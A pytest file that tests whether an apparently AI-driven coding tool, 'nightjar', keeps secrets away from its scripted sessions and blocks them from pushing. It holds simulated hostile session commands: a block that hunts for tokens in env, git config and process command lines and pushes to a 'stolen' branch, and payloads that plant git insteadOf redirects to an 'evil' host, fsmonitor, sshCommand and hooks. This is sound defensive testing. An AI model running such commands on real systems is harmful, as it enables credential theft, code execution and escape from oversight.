"""No secret where a session, a reader of GitHub or another process of the machine could find it."""

from __future__ import annotations

import base64
import os
import subprocess
import sys
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.run.stage import ADD_RIGHT, ADD_WRONG, HAND_OVER, Played, Stage, does, note, says, session
from tests.run.test_finish import finish
from tests.run.town import town

KEY = "sk-scripted-0123456789"
OTHER = "deploy-9876543210"
"""What another variable of the job holds."""
UNSAID = "sk-scripted-unsaid-0123456789"
"""A key that no test's command line holds: others run at the same time."""
ENCODED = base64.b64encode(KEY.encode()).decode()


def forms(secret: str) -> tuple[str, ...]:
    """How a token could be met: as it is, and as git sends it."""
    return secret, base64.b64encode(f"x-access-token:{secret}".encode()).decode()


def everything_on_github(stage: Stage) -> str:
    """All that people can read: titles, texts with their earlier versions, commits and files."""
    texts = [event.text for number in (1, 2) for event in stage.repository.timeline(number)]
    for number in (1, *(pull.number for pull in stage.repository.pull_requests())):
        texts += [version for comment in stage.repository.comments(number) for version in comment.versions]
    texts += [f"{pull.title}\n{pull.body}" for pull in stage.repository.pull_requests()]
    log = subprocess.run(
        ["git", "-C", str(stage.repository.path), "log", "--all", "-p", "--format=fuller"],
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    return "\n".join([*texts, log.stdout])


def assert_not_in_logs(played: Played, *secrets: str) -> None:
    """Neither a transcript nor a patch in the logs folder holds one of them."""
    folder = played.job.temp / "nightjar" / "logs"
    found = {path.name: path.read_text(encoding="utf-8", errors="replace") for path in folder.iterdir()}
    assert any(name.endswith(".jsonl") for name in found)
    assert [name for name, text in found.items() for secret in secrets if secret in text] == []


LOOK_AROUND = """\
env > {folder}/env
git remote -v > {folder}/remotes
git config --list --show-origin > {folder}/config
cat .git/config >> {folder}/config
for process in /proc/[0-9]*; do tr '\\0' ' ' < $process/cmdline; echo; done > {folder}/argv 2>/dev/null
git push origin HEAD > {folder}/push 2>&1; echo "exit $?" >> {folder}/push
git push {url} HEAD:refs/heads/stolen > {folder}/push-url 2>&1; echo "exit $?" >> {folder}/push-url
"""


@pytest.fixture
def looked(stage: Stage) -> Played:
    """A Run whose session looked around for a credential and tried to push."""
    commands = LOOK_AROUND.format(folder=stage.shared, url=stage.repository.clone_url)
    played = stage.run(
        session("implement", does(commands, "look around"), does(f"{ADD_RIGHT}; {HAND_OVER}"), says()),
        settings={"anthropic-api-key": UNSAID},
        environment={"GITHUB_TOKEN": "ghs_0123456789abcdefghij", "ACTIONS_RUNTIME_TOKEN": "runtime-0123456789"},
    )
    assert played.exit_code == 0, played.log
    return played


@pytest.mark.field_case(52, "environment")
def test_session_has_no_credential(stage: Stage, looked: Played) -> None:
    """What a session sees of environment, git configuration and processes holds no token, and not the model's key."""
    seen = {name: stage.path(name).read_text(encoding="utf-8") for name in ("env", "remotes", "config", "argv")}
    assert seen["remotes"] == ""
    for name, text in seen.items():
        for secret in (UNSAID, stage.token, "ghs_0123456789abcdefghij", "runtime-0123456789"):
            assert not any(form in text for form in forms(secret)), name
    assert "GITHUB_OUTPUT" not in seen["env"]
    assert "INPUT_" not in seen["env"]
    assert looked.survivors() == ()


def test_session_cannot_push(stage: Stage, looked: Played) -> None:
    """What a session tries to push by itself is refused for want of a credential."""
    assert "exit 0" not in stage.path("push").read_text(encoding="utf-8")
    assert "exit 0" not in stage.path("push-url").read_text(encoding="utf-8")
    assert "refs/heads/stolen" not in stage.repository.refs()
    assert looked.pull.head == "nightjar/issue-1"


@pytest.mark.field_case(52, "texts")
def test_secrets_are_not_shown(stage: Stage) -> None:
    """A key that a session writes into every text it can is replaced in comments, log, summary, outputs and
    transcripts; so is what a variable of the job holds that is a credential by its name.
    """
    tell = f"printf 'Add {KEY}\\n\\nThe key is {KEY}.\\n' > \"$NIGHTJAR_HANDOVER/pull-request.md\""
    played = stage.run(
        session(
            "implement", does(f"{ADD_RIGHT}; {tell}", f"use {KEY}"), says(f"The key is {KEY}, {ENCODED}, {OTHER}.")
        ),
        settings={"anthropic-api-key": KEY},
        environment={"DEPLOY_TOKEN": OTHER},
    )

    shown = everything_on_github(stage) + played.log + played.job.summary + "\n".join(played.outputs.values())
    assert played.exit_code == 0, played.log
    assert "The key is ***." in played.pull.body
    for form in (*forms(KEY), *forms(stage.token)):
        assert form not in shown
    assert ENCODED not in shown
    assert OTHER not in shown
    assert_not_in_logs(played, KEY, ENCODED, OTHER, stage.token)


def test_last_words_with_a_secret(stage: Stage) -> None:
    """The quoted last words of a session that changed nothing are cleaned like everything else, also in two lines."""
    words = f"I found {KEY} here, {KEY[:9]}\n{KEY[9:]} there."
    played = stage.run(session("implement", says(words)), settings={"anthropic-api-key": KEY})

    assert played.exit_code == 1
    assert "I found *** here, *** there" in played.ending
    assert_not_in_logs(played, KEY, KEY[9:])
    assert KEY not in played.log


@pytest.mark.field_case(52, "masks")
@pytest.mark.parametrize("command", ["run", "finish", "sweep"])
def test_runner_is_told_what_to_mask(stage: Stage, command: str) -> None:
    """Before any other line the log has the runner hide token and key, also as they are URL-encoded or in base64."""
    key = f"{KEY}/+"
    runner = stage.run(label="bug").runner
    environment = runner.environment("issues", {}, {"anthropic-api-key": key})
    lines = runner.finish(runner.start(environment, command)).log.splitlines()

    masks = [line.removeprefix("::add-mask::") for line in lines if line.startswith("::add-mask::")]
    assert lines[: len(masks)] == [f"::add-mask::{mask}" for mask in masks]
    assert {stage.token, key, quote(quote(key, safe=""))} <= set(masks)  # the runner decodes a command's value
    assert any(mask in base64.b64encode(f"x-access-token:{stage.token}".encode()).decode() for mask in masks)
    assert any(mask in base64.b64encode(f" {key}".encode()).decode() for mask in masks)


@pytest.mark.field_case(52, "diff")
def test_a_secret_in_the_diff_is_not_pushed(stage: Stage) -> None:
    """A secret that one commit adds and the next takes out ends the Run before anything of it reaches GitHub; the work
    is kept as a patch with the secret replaced.
    """
    leak = (
        f"echo 'key = {KEY}' > key.py; git add .; git commit -qm 'Add key'; git rm -q key.py; git commit -qm 'No key'"
    )
    played = stage.run(
        session("implement", does(f"{ADD_RIGHT}; {leak}; {HAND_OVER}"), says()), settings={"anthropic-api-key": KEY}
    )

    assert played.exit_code == 1
    assert "There is a secret in what the session wrote" in played.ending
    assert "`key.py` of commit" in played.ending
    assert "Add key" not in everything_on_github(stage)
    assert KEY not in everything_on_github(stage) + played.log
    assert "nightjar-issue-1.patch" in played.ending
    patch = played.job.temp / "nightjar" / "logs" / "nightjar-issue-1.patch"
    assert "+key = ***" in patch.read_text(encoding="utf-8")
    assert "+    return a - b" in patch.read_text(encoding="utf-8")
    assert_not_in_logs(played, KEY)


def test_unfinished_work_with_a_secret_is_not_pushed_either(stage: Stage) -> None:
    """A Run that is cancelled keeps its work on the branch, but one that holds a secret only as a patch."""
    fifo = stage.fifo("started")
    leak = f"{ADD_RIGHT}; echo 'key = {KEY}' > key.py"
    playing = stage.start(
        session("implement", does(f"{leak}; echo started > {fifo}; exec sleep 300"), says()),
        settings={"anthropic-api-key": KEY},
        environment={"GITHUB_ACTIONS": "false"},
    )
    fifo.read_text(encoding="utf-8")
    playing.process.terminate()
    played = playing.finish()

    assert played.exit_code == 130
    assert "The work could not be pushed: `key.py` of commit" in played.ending
    assert "return a - b" not in everything_on_github(stage)
    assert "nightjar-issue-1.patch" in played.kept


def test_a_killed_run_with_a_secret(stage: Stage) -> None:
    """What a Run that was killed had written with a secret in it is not pushed by the job's last step, and is in no log
    any more.
    """
    fifo = stage.fifo("started")
    leak = f"{ADD_RIGHT}; echo 'key = {KEY}' > key.py; echo started > {fifo}; exec sleep 300"
    playing = stage.start(session("implement", does(leak), says()), settings={"anthropic-api-key": KEY})
    fifo.read_text(encoding="utf-8")
    playing.process.kill()
    played = playing.finish()
    ended = finish(playing, settings={"anthropic-api-key": KEY})

    assert ended.last.exit_code == 0, ended.last.log
    assert "the Run's process was killed" in ended.comments[-1]
    assert "The work could not be pushed: `key.py` of commit" in ended.comments[-1]
    assert "return a - b" not in everything_on_github(stage)
    assert_not_in_logs(played, KEY)


def test_a_run_that_would_wait_with_a_secret(tmp_path: Path) -> None:
    """A Session that reaches the usage limit leaves no checkpoint with a secret: the Run ends instead of waiting."""
    leak = "echo 'key = ghs_aB3dE6gHaB3dE6gHaB3dE6gH' > key.py"
    with town(tmp_path, f"{leak}; limit $(($(date +%s) + 60))") as played:
        played.label()
        played.settle()

        assert played.labels() == ("nightjar:failed",), played.log
        assert "`key.py` of commit" in played.endings()[0]
        assert "what looks like a GitHub token" in played.endings()[0]
        words = ["git", "-C", str(played.repository.path), "log", "--all", "--name-only", "--format="]
        assert "key.py" not in subprocess.run(words, capture_output=True, text=True, check=True).stdout


def test_notes_and_evidence_with_a_secret(stage: Stage) -> None:
    """A key in a Repair's note, in CI's log and so in the next prompt is replaced everywhere."""
    # CI prints what no commit holds in a form that would be found.
    spell = f"self.assertEqual(calc.sub(3, 1), 2, '{KEY[::-1]}'[::-1])"
    wrong = f"{ADD_WRONG}; sed -i \"s/self.assertEqual(calc.sub.*/{spell}/\" test_calc.py; git commit -qam 'Say more'"
    repair = does(f"echo '# tried' >> calc.py; git commit -qam 'Try'; {note(f'I tried {KEY}.')}")
    played = stage.run(
        session("implement", does(f"{wrong}; {HAND_OVER}"), says()),
        session("repair-1", repair, says()),
        settings={"anthropic-api-key": KEY, "max-repairs": "1"},
    )

    assert played.exit_code == 1
    assert "I tried ***." in played.repair_comments[0]
    assert "!= 2 : ***" in played.prompt("repair-1")
    assert KEY not in everything_on_github(stage) + played.log + played.job.summary


def test_no_secret_in_any_argv(stage: Stage) -> None:
    """No git that the program starts carries the token on its command line."""
    # A `git` that stands first on PATH and keeps every command line before it becomes the real one.
    folder = stage.path("bin")
    folder.mkdir()
    kept = stage.path("git-argv")
    shim = folder / "git"
    real = subprocess.run(["sh", "-c", "command -v git"], capture_output=True, text=True, check=True).stdout.strip()
    shim.write_text(
        f"#!{sys.executable}\nimport os, sys\n"
        f"open({str(kept)!r}, 'a').write(' '.join(sys.argv) + chr(10))\n"
        f"os.execv({real!r}, ['git', *sys.argv[1:]])\n",
        encoding="utf-8",
    )
    shim.chmod(0o755)
    played = stage.run(
        session("implement", does(f"{ADD_RIGHT}; {HAND_OVER}"), says()),
        environment={"PATH": f"{folder}:{os.environ['PATH']}"},
    )

    assert played.exit_code == 0, played.log
    lines = kept.read_text(encoding="utf-8")
    assert "push" in lines
    assert not any(form in lines for form in forms(stage.token))


@pytest.mark.parametrize(
    "plant",
    [
        "git config url.{evil}.insteadOf {url}",
        "git config core.fsmonitor 'touch {flag}'",
        "git config core.sshCommand 'touch {flag}'; git config http.proxy {evil}",
        "for hook in pre-commit pre-push; do echo 'touch {flag}' | install /dev/stdin .git/hooks/$hook; done",
        "git config --global core.hooksPath {evil_folder}; git config --global url.{evil}.insteadOf {url}",
    ],
    ids=["instead-of", "fsmonitor", "proxy", "hooks", "global"],
)
def test_planted_git_configuration(stage: Stage, plant: str) -> None:
    """What a session plants in git's configuration does not act on the program's own git."""
    # The session's own commands come before: planted things may well act on them.
    flag = stage.path("flag")
    command = plant.format(
        evil="http://127.0.0.1:9/", url=f"{stage.hub.server_url}/", flag=flag, evil_folder=stage.shared
    )
    left = ADD_RIGHT.partition("; git commit")[0]
    played = stage.run(session("implement", does(f"{left}; {HAND_OVER}; {command}"), says()))

    assert played.exit_code == 0, played.log
    assert "a - b" in stage.repository.file(played.pull.head_sha, "calc.py")
    assert not flag.exists()
